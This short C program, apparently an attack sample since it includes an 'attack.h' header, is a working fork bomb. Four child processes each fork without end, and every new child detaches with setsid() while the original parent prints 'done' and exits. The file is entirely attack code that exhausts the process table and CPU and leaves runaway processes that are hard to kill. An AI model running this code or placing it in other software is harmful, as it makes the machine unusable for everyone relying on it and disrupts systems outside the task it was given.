// The first process ends while hundreds of its children are being born.
#include "attack.h"
int main(void) {
  for (int i = 0; i < 4; i++)
    if (fork() == 0)
      for (;;)
        if (fork() == 0) setsid();
  usleep(20000);
  puts("done");
  return 0;
}
